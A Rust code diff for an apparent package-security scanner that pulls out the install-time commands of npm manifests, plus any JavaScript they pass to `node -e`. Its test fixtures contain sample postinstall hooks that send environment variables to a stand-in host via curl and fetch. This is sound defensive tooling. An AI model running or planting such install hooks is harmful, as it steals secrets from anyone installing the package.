@@ -11,6 +11,7 @@
 //! parsers keep the last) shows both commands, and a manifest on one line works as well.
 
 use super::LIFECYCLE;
+use super::node_eval::node_eval_ranges;
 use super::node_json;
 use super::on_demand::reached_on_install;
 use crate::common::strip_bom;
@@ -19,10 +20,20 @@ use serde_json::{Map, Value};
 use std::collections::BTreeSet;
 use std::ops::Range;
 
-/// The manifest of an npm package with only its install-time commands left, JSON
-/// escapes replaced by text of the same length; `None` when no script runs on install
-/// or the manifest cannot be read.
-pub fn npm_install_script_view(package: &Package) -> Option<Vec<u8>> {
+/// The install-time commands of a manifest, laid out where they stand in it.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct InstallScriptView {
+    /// The manifest with only its install-time commands left, JSON escapes replaced by
+    /// text of the same length.
+    pub shell: Vec<u8>,
+    /// The same layout with only the code those commands hand to a JavaScript runtime
+    /// (`node -e "..."`); `None` when they hand it none.
+    pub javascript: Option<Vec<u8>>,
+}
+
+/// The install-time view of an npm package's manifest; `None` when no script runs on
+/// install or the manifest cannot be read.
+pub fn npm_install_script_view(package: &Package) -> Option<InstallScriptView> {
     if package.ecosystem != Some(palisade_core::Ecosystem::Npm) {
         return None;
     }
@@ -30,7 +41,7 @@ pub fn npm_install_script_view(package: &Package) -> Option<Vec<u8>> {
     install_script_view(strip_bom(&manifest.data))
 }
 
-fn install_script_view(data: &[u8]) -> Option<Vec<u8>> {
+fn install_script_view(data: &[u8]) -> Option<InstallScriptView> {
     let json = node_json::parse(data).ok()?;
     let data: &[u8] = &json.bytes;
     let Value::Object(manifest) = &json.value else {
@@ -40,21 +51,27 @@ fn install_script_view(data: &[u8]) -> Option<Vec<u8>> {
         return None;
     };
     let run = run_on_install(scripts);
-    let mut view: Vec<u8> = data
+    let blank: Vec<u8> = data
         .iter()
         .map(|&b| if b == b'\n' { b'\n' } else { b' ' })
         .collect();
+    let mut shell = blank.clone();
+    let mut javascript: Option<Vec<u8>> = None;
     let mut any = false;
     for (name, span) in script_spans(data) {
-        if run.contains(&name) {
-            write_command(
-                &data[span.start - 1..span.end + 1],
-                &mut view[span.start..span.end + 1],
-            );
-            any = true;
+        if !run.contains(&name) {
+            continue;
         }
+        let command = &mut shell[span.start..span.end + 1];
+        write_command(&data[span.start - 1..span.end + 1], command);
+        for code in node_eval_ranges(command) {
+            let js = javascript.get_or_insert_with(|| blank.clone());
+            let at = span.start + code.start..span.start + code.end;
+            js[at].copy_from_slice(&command[code]);
+        }
+        any = true;
     }
-    any.then_some(view)
+    any.then_some(InstallScriptView { shell, javascript })
 }
 
 /// The scripts npm runs on install: the lifecycle hooks present and every script they
@@ -260,7 +277,7 @@ mod tests {
     use super::install_script_view;
 
     fn view(json: &str) -> Option<String> {
-        install_script_view(json.as_bytes()).map(|v| String::from_utf8(v).unwrap())
+        install_script_view(json.as_bytes()).map(|v| String::from_utf8(v.shell).unwrap())
     }
 
     #[test]
@@ -302,6 +319,18 @@ mod tests {
         let v = view("{\"scripts\": {\"postinstall\": \"echo a\\nenv | curl -d @- x\"}}").unwrap();
         assert!(v.contains("echo a;env | curl -d @- x"), "{v}");
         assert_eq!(v.lines().count(), 1);
+    }
+
+    #[test]
+    fn only_code_handed_to_node_is_javascript() {
+        let json = r#"{"scripts": {"postinstall": "rm -rf dist/* && node -e \"fetch(u, {body: JSON.stringify(process.env)})\" || true"}}"#;
+        let v = install_script_view(json.as_bytes()).unwrap();
+        let js = String::from_utf8(v.javascript.unwrap()).unwrap();
+        assert_eq!(js.trim(), "fetch(u, {body: JSON.stringify(process.env)})");
+        let at = js.find("fetch").unwrap();
+        assert_eq!(&v.shell[at..at + 5], b"fetch");
+        let plain = install_script_view(br#"{"scripts": {"install": "node-gyp rebuild"}}"#);
+        assert_eq!(plain.unwrap().javascript, None);
     }
 
     #[test]
